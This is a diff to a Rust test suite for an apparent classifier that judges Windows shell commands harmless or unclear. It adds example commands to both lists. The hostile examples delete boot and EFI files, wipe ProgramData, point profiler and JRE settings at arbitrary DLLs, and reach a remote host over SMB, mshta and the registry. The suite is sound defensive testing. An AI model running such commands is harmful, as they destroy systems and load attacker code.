@@ -14,6 +14,8 @@ fn command(text: &str, language: Language) -> FirstCommand {
         writes: Vec::new(),
         reads: Vec::new(),
         piped: false,
+        instead: None,
+        is_last: true,
     }
 }
 
@@ -66,6 +68,18 @@ fn usual_commands_harm_nobody() {
         r#"netsh advfirewall firewall add rule name="Web" protocol=tcp localport=80,443 dir=in action=allow profile=any"#,
         "dism /online /enable-feature /featurename:IIS-WebServer /all /norestart",
         r#"wmic useraccount where name="Administrator" set PasswordExpires=FALSE"#,
+        "choice /c yn /t 10 /d y",
+        "timeout 60 /nobreak",
+        r"cd /d C:\tools",
+        "cd..",
+        "set PYTHONUTF8=1",
+        "powercfg -h off",
+        "powercfg /change standby-timeout-ac 0",
+        "powercfg /setacvalueindex SCHEME_CURRENT SUB_PROCESSOR PROCTHROTTLEMIN 100",
+        "bcdedit /timeout 10",
+        r"rd /s /q C:\ProgramData\MyInstaller",
+        r#"reg add "HKLM\SOFTWARE\My App" /v Data /d D:\data /f"#,
+        "shutdown /r /t 10",
     ];
     let power = [
         "Write-Host 'done'",
@@ -177,6 +191,25 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         r#"AnswerSettings "Networking-MPSSVC-Svc" "PublicProfile_EnableFirewall=false""#,
         r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "UserAccounts/DomainAccounts/DomainAccountList/Domain=x""#,
         "mshta http://203.0.113.7/",
+        "ping -t 127.0.0.1",
+        "ping -n 99999999 127.0.0.1",
+        "timeout /t -1",
+        "timeout /t 100000",
+        "choice /c yn",
+        r"cd /d E:\tools",
+        r"pushd \\203.0.113.7\x",
+        r"set COR_PROFILER_PATH=C:\x\x.dll",
+        r#"set "PYTHONPATH=C:\x""#,
+        "powercfg /hibernate on",
+        "powercfg /change standby-timeout-ac 1",
+        "powercfg /setdcvalueindex SCHEME_CURRENT SUB_SLEEP STANDBYIDLE 60",
+        "bcdedit /timeout 4294967295",
+        r"del /f /q C:\Boot\BCD",
+        r"rd /s /q C:\EFI",
+        r"rd /s /q C:\ProgramData\QCloud",
+        r"del /s /q C:\ProgramData\*",
+        r"reg add HKLM\SOFTWARE\JavaSoft\JRE /v Jvm /d C:\x\x.dll /f",
+        "reg add HKLM\\SOFTWARE\\My /v Server /d https://203.0.113.7/ /f",
         // Known names of other folders.
         r"C:\ProgramData\ping.exe -n 3 127.0.0.1",
         r"C:\ProgramData\echo.exe",
@@ -245,6 +278,35 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         ] {
             let deed = judge(context, &command(text, Language::PowerShell));
             assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
+        }
+    });
+}
+
+#[test]
+fn what_is_found_first_and_what_nothing_stands_behind_is_told() {
+    with_context(|context| {
+        let mut ping = command("ping 127.0.0.1", Language::Command);
+        ping.instead = Some(r"C:\ProgramData\x\ping.exe".into());
+        assert_eq!(
+            ping.carried_out(),
+            r#""C:\ProgramData\x\ping.exe" 127.0.0.1"#
+        );
+        assert!(matches!(judge(context, &ping), Deed::Unclear(_)));
+        let mut restart = command("shutdown /r /t 0", Language::Command);
+        restart.is_last = false;
+        assert!(matches!(judge(context, &restart), Deed::Unclear(_)));
+        for (path, harmless) in [
+            (r"C:\Windows\Temp\a.txt", true),
+            (r"C:\install\logs\a.txt", true),
+            (r"C:\My App\a.log", true),
+            (r"C:\ProgramData\ssh\keys.txt", false),
+            (r"C:\My App\plugins.txt", false),
+            (r"C:\Boot\a.log", false),
+        ] {
+            let mut echo = command("echo x", Language::Command);
+            echo.writes = vec![path.into()];
+            let deed = judge(context, &echo);
+            assert_eq!(deed == Deed::Harmless, harmless, "{path}: {deed:?}");
         }
     });
 }
